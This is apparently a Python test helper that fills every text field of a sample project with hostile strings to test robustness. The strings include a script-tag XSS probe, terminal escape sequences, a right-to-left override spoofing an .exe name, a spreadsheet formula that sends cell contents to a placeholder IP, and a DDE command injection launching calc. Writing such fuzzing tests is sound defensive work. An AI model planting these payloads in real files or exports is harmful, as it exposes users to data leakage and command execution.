"""Texts nobody should trust, and a project in whose every text field they stand."""

from __future__ import annotations

import json
from contextlib import suppress
from functools import cache
from random import Random
from typing import get_args

from cxstudio.catalogue.samples import sample
from cxstudio.files.decoding import decode
from cxstudio.files.encoding import encode
from cxstudio.files.jsontext import read_json
from cxstudio.model import Document, Record
from cxstudio.model.registry import RECORD_TYPES, ref_fields
from cxstudio.store import Store
from tests.cxstudio.any_edit import create_any

MARKUP = '<img src="file:///nowhere/pixel.png"><b>&lt;Q&A&gt;</b><script>alert(1)</script>'
ESCAPES = "\x1b]0;owned\x07\x1b[31m\x9b2Jred\x08\x00\r end"
TURNED = "\u202egnp.exe\u202c \u2066x"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
SYNTAX = "%% title: x\n\"];--><![CDATA[ ]]> {0} {name} {} %s %(n)s %n \\N{BEL} [*] 'x' `x` ${x}"
LONG = "W" * 3000 + " " + "ü" * 3000
SCRIPTS = "مرحبا בדיקה 한국어 😀👩‍👩‍👧 \ufb01 a\u0300\u0301\u0302 \u2028 \u2029 \ufeff"

HOSTILE = {
    "markup": MARKUP,
    "escapes": ESCAPES,
    "turned": TURNED,
    "formula": FORMULA,
    "command": COMMAND,
    "syntax": SYNTAX,
    "long": LONG,
    "scripts": SCRIPTS,
}
_NOT_FREE = frozenset({"id", "order", "asset", "logo"})
_LONGEST_KEY = 500


def text_fields() -> dict[type[Record], tuple[str, ...]]:
    """Every kind of record with its fields in which any text may stand, alone, in a list or by a key."""
    found = {}
    for kind in RECORD_TYPES:
        taken = _NOT_FREE | {ref.name for ref in ref_fields(kind)}
        names = tuple(
            n for n, info in kind.model_fields.items() if n not in taken and _in_place_of(info.annotation, "")
        )
        if names:
            found[kind] = names
    return found


def _in_place_of(annotation: object, text: str) -> object:
    """What stands in a field of this type with a text in it; None where there is no room for any."""
    if annotation is str:
        return text or " "
    if annotation == tuple[str, ...]:
        return [text, f"{text}2"]
    arguments = get_args(annotation)
    if arguments == (str, str):
        return {"a": text, **({text: text} if len(text) <= _LONGEST_KEY else {})}
    return None


def poisoned(text: str, language: str = "en") -> Document:
    """A project with records of every kind, and this text wherever one may stand, as it is read from a file."""
    content = read_json(encode(_every_kind(language)))
    for kind, names in text_fields().items():
        for entry in content["records"][kind.__name__]:
            for name in names:
                entry[name] = _in_place_of(kind.model_fields[name].annotation, text)
    return decode(json.dumps(content).encode("utf-8", "surrogatepass")).document


@cache
def _every_kind(language: str) -> Document:
    """The sample, and a record of each kind it has none of."""
    store, chance = Store(sample("lindenfurt", language).document), Random(3)
    for _ in range(1_000):
        missing = [kind for kind in RECORD_TYPES if not store.document.all(kind)]
        if not missing:
            return store.document
        with suppress(Exception), store.transaction("More") as draft:
            create_any(draft, chance, kinds=missing)
    raise AssertionError("a kind of record that cannot be made")
